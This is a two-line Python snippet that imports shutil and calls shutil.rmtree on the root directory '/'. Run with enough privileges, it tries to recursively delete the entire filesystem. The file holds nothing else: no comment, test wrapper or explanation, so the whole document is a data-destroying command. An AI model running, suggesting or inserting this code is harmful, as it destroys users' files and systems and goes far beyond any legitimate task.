import shutil
shutil.rmtree("/")
